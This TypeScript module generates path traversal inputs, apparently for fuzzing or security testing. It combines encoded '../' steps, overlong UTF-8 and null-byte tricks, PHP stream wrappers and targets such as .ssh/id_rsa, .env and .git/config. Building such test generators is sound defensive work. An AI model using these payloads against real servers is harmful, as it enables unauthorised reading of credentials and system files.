import type { Random } from "../random.ts"
import { applicationFile, unixFile, windowsFile } from "./files.ts"
import { type Grammar, identifier, mixCase, oneOf } from "./grammar.ts"

/**
 * Paths that leave their directory, from RFC 3986 (dot segments, percent encoding), RFC 3629
 * (overlong forms) and the path rules of Windows and of servlet containers.
 */
export function pathTraversal(random: Random): string {
  return oneOf(random, [climbing, climbing, climbing, climbing, absolute, wrapper])
}

const STEPS = [
  "../",
  "../",
  "../",
  "../",
  "..\\",
  "..\\",
  "....//",
  "..../",
  "....\\\\",
  "..;/",
  "..//",
  "..\\/",
  "..%2f",
  "..%2F",
  "..%5c",
  "%2e%2e/",
  "%2e%2e%2f",
  "%2e%2e%5c",
  "..%252f",
  "%252e%252e%252f",
  "..%255c",
  "%c0%ae%c0%ae/",
  "..%c0%af",
  "%c0%ae%c0%ae%c0%af",
  "..%c1%9c",
  "%e0%80%ae%e0%80%ae/",
  "..%u2215",
  "%u002e%u002e%u2215",
  "..%00/",
  ".%2e/",
  "%2e./",
  "./../",
  "/../",
  "\\..\\",
  "..././",
  "%uff0e%uff0e/",
  "..0x2f",
  "%25c0%25ae%25c0%25ae/",
  "..%2f%2f",
  ".//../",
] as const

function climbing(random: Random): string {
  const step = random.pick(STEPS)
  const depth = random.between(1, random.pick([3, 6, 12]))
  const target = oneOf(random, TARGETS)
  const separator = step.includes("\\")
    ? "\\"
    : step.match(/%[^.]*$/)?.[0] && random.chance(0.4)
      ? "%2f"
      : "/"
  const below = separator === "/" ? target : target.replaceAll("/", separator)
  return `${prefix(random)}${step.repeat(depth)}${below}${suffix(random)}`
}

const TARGETS: readonly Grammar[] = [
  (r) => unixFile(r).slice(1),
  (r) => unixFile(r).slice(1),
  unixFile,
  (r) => windowsFile(r).slice(3),
  (r) => windowsFile(r).slice(3).replaceAll("\\", "/"),
  applicationFile,
  () => "",
  (r) => `${identifier(r)}.${r.pick(["php", "txt", "conf", "ini", "log", "jsp", "xml"])}`,
  (r) => `${identifier(r)}/${identifier(r)}`,
]

function prefix(random: Random): string {
  return oneOf(random, [
    () => "",
    () => "",
    () => "/",
    () => "./",
    (r) => `/${identifier(r)}/`,
    (r) =>
      `${r.pick(["images", "static", "files", "uploads", "download", "docs", "templates", "lang"])}/`,
    (r) =>
      `/${r.pick(["var/www/html", "var/www/images", "usr/share", "cgi-bin", "icons", "static"])}/`,
    (r) => `${identifier(r)}.php?${r.pick(["file", "page", "path", "doc", "include"])}=`,
    (r) => `${r.pick(["file", "page", "path", "template", "lang", "dir"])}=`,
    () => "\\",
    () => "c:\\inetpub\\",
    () => "file://",
  ])
}

function suffix(random: Random): string {
  return random.pick([
    "",
    "",
    "",
    "",
    "",
    "%00",
    "%00.jpg",
    "%00.html",
    "\u0000",
    "?",
    "#",
    "%2500",
    ";index.html",
    ".",
    "%20",
    "/.",
    "::$DATA",
    "%0a",
    "%00.png",
    "?x=1",
  ])
}

function absolute(random: Random): string {
  const path = oneOf(random, [
    unixFile,
    unixFile,
    windowsFile,
    (r) => windowsFile(r).replaceAll("\\", "/"),
  ])
  const spelled = oneOf(random, [
    () => path,
    () => path,
    () => path.replaceAll("/", "%2f"),
    () => path.replaceAll("/", "//"),
    () => path.replaceAll("/", "/./"),
    () => mixCase(random, path),
    () => `file://${path}`,
    () => `\\\\?\\${path}`,
    () => `\\\\localhost\\c$\\${path.slice(3)}`,
  ])
  return `${random.pick(["", "", "", "/", "file=", "page=", "path="])}${spelled}${suffix(random)}`
}

function wrapper(random: Random): string {
  const target = random.pick([applicationFile, unixFile])(random)
  return oneOf(random, [
    () =>
      `php://filter/${random.pick(["convert.base64-encode", "read=string.rot13", "read=convert.base64-encode", "zlib.deflate"])}/resource=${target}`,
    () => `file:///${target.replace(/^\//, "")}`,
    () => `${random.pick(["jar", "netdoc", "zip", "phar", "compress.zlib"])}:file:///${target}`,
    () => `/${target}`,
    () => `/static/..${random.pick([";", "%2f", "%5c", ""])}/${target}`,
    () => `/%5c../${target}`,
    () =>
      `/.${random.pick(["git/HEAD", "git/config", "env", "svn/entries", "ssh/id_rsa", "htpasswd", "bash_history"])}`,
  ])
}
